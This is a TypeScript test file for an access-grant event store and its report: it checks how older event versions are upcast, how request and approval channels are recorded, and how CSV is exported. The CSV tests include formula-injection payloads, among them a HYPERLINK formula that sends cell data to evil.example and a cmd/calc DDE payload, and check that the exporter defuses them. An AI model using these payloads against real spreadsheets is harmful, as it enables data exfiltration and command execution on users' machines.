import { z } from 'zod';
import {
  GrantedV1,
  ManualClock,
  createEvent,
  eventRegistry,
  type AccessEvent,
  type EventDraft,
  type EventRegistry,
  type Via,
} from '@jit/events';
import { sampleData } from '@jit/events/testing';
import { readStoredEvent } from '../src/records/stored-event.js';
import { evolveGrant, grantsProjection, type GrantRow, type HeldGrant } from '../src/projections/grants.js';
import { periodOf, toCsv, type AccessPeriod } from '../src/queries/access-report.js';

const requestId = '0b6f5d1e-2c1a-4c55-9d0e-6f3f1e2a7b10';

/** The report's periods of some events, as the `grants` projection folds them. */
function accessPeriods(events: readonly AccessEvent[]): AccessPeriod[] {
  const grant = events.reduce<GrantRow | undefined>((row, event, i) => evolveGrant(row, event, i + 1), undefined);
  return grant && grantsProjection.isRow!(grant) ? [periodOf(grant as HeldGrant)] : [];
}

/** An event as the audit store keeps it: plain JSON, in the version it was written in. */
function stored(draft: EventDraft, at: string): Record<string, unknown> {
  return JSON.parse(JSON.stringify(createEvent(draft, { requestId, actor: 'service:test' }, new ManualClock(at))));
}

describe('reading recorded events', () => {
  it('a denied v1 row reads at the latest version, with the approver words moved from reason to comment', () => {
    const v1 = {
      ...stored({ type: 'denied', data: sampleData.denied }, '2026-01-01T00:00:00.000Z'),
      version: 1,
      data: { by: 'bob@example.com', reason: 'use the staging app instead' },
    };

    expect(readStoredEvent(v1)).toMatchObject({
      type: 'denied',
      version: 3,
      data: { by: 'bob@example.com', reason: 'denied_by_approver', comment: 'use the staging app instead' },
    });
  });

  it('a row that no longer decodes is a broken contract, not an empty answer', () => {
    const row = { ...stored({ type: 'expired', data: sampleData.expired }, '2026-01-01T00:00:00.000Z'), type: 'teleported' };
    expect(() => readStoredEvent(row)).toThrow(/no longer decodes: unknown event type "teleported"/);
  });
});

describe('access report', () => {
  it('reads a grant recorded in an older version through its upcaster, not by a JSON path of that version', () => {
    // A registry in which `granted` v1 named the expiry `until`, and v2 (today's shape) renamed it.
    const GrantedWithUntil = GrantedV1.omit({ expiresAt: true }).extend({ until: z.iso.datetime({ offset: true }) });
    const registry: EventRegistry = {
      ...eventRegistry,
      granted: {
        versions: { 1: GrantedWithUntil, 2: GrantedV1 },
        latest: 2,
        schema: GrantedV1,
        upcasters: {
          1: (data) => {
            const { until, ...rest } = data as z.infer<typeof GrantedWithUntil>;
            return { ...rest, expiresAt: until };
          },
        },
      },
    };
    const { expiresAt: _, ...grantedData } = { ...sampleData.granted, grantedAt: '2026-01-01T10:00:00.000Z' };
    const grantedV1 = {
      ...stored({ type: 'granted', data: sampleData.granted }, '2026-01-01T10:00:00.000Z'),
      version: 1,
      data: { ...grantedData, until: '2026-01-01T11:00:00.000Z' },
    };
    const rows = [stored({ type: 'requested', data: sampleData.requested }, '2026-01-01T09:59:00.000Z'), grantedV1];

    const events: AccessEvent[] = rows.map((row) => readStoredEvent(row, registry));

    expect(accessPeriods(events)).toEqual([
      {
        requestId,
        requester: 'alice@example.com',
        applicationId: 'demo-sandbox',
        oktaGroupId: '00gdemosandbox',
        justification: 'INC-42',
        approvers: [],
        requestedVia: null,
        approvedVia: [],
        grantedAt: '2026-01-01T10:00:00.000Z',
        expiresAt: '2026-01-01T11:00:00.000Z',
        revokedAt: null,
        revokeReason: null,
      },
    ]);
  });

  it('names the key a request came through and each credential its approvals came through, once each, in the JSON and the CSV', () => {
    const event = (draft: EventDraft, via?: Via): AccessEvent =>
      createEvent(draft, { requestId, actor: 'someone', ...(via ? { via } : {}) }, new ManualClock('2026-01-01T10:00:00.000Z'));
    const bot: Via = { kind: 'api_key', name: 'approvals-bot' };
    const events = [
      event({ type: 'requested', data: sampleData.requested }, { kind: 'api_key', name: 'portal' }),
      event({ type: 'approved', data: { stage: 0, approver: 'bob@example.com', final: false } }, bot),
      event({ type: 'approved', data: { stage: 1, approver: 'carol@example.com', final: false } }, { kind: 'slack' }),
      event({ type: 'approved', data: { stage: 2, approver: 'dave@example.com', final: true } }, bot),
      event({ type: 'granted', data: sampleData.granted }),
    ];

    const [period] = accessPeriods(events);

    expect(period).toMatchObject({ requestedVia: 'api_key:portal', approvedVia: ['api_key:approvals-bot', 'slack'] });
    expect(toCsv([period]).split('\r\n')[1]).toContain(',api_key:portal,api_key:approvals-bot slack,');
  });
});

describe('the access report as CSV', () => {
  const period: AccessPeriod = {
    requestId,
    requester: 'alice@example.com',
    applicationId: 'demo-sandbox',
    oktaGroupId: '00g1demosandbox00001',
    justification: 'INC-1',
    approvers: ['bob@example.com'],
    grantedAt: '2026-01-01T00:00:00.000Z',
    expiresAt: '2026-01-01T01:00:00.000Z',
    revokedAt: null,
    revokeReason: null,
    requestedVia: null,
    approvedVia: [],
  };
  const justificationCell = (justification: string): string =>
    toCsv([{ ...period, justification }])
      .split('\r\n')[1]
      .split(',')[4];

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
  ])('a cell a spreadsheet would run as a formula (%j) is neutralised with a leading quote', (justification, cell) => {
    expect(justificationCell(justification)).toBe(cell);
  });

  it('a cell that only contains such a character further in is left as it is', () => {
    expect(justificationCell('INC-1 = outage; see @oncall')).toBe('INC-1 = outage; see @oncall');
  });
});
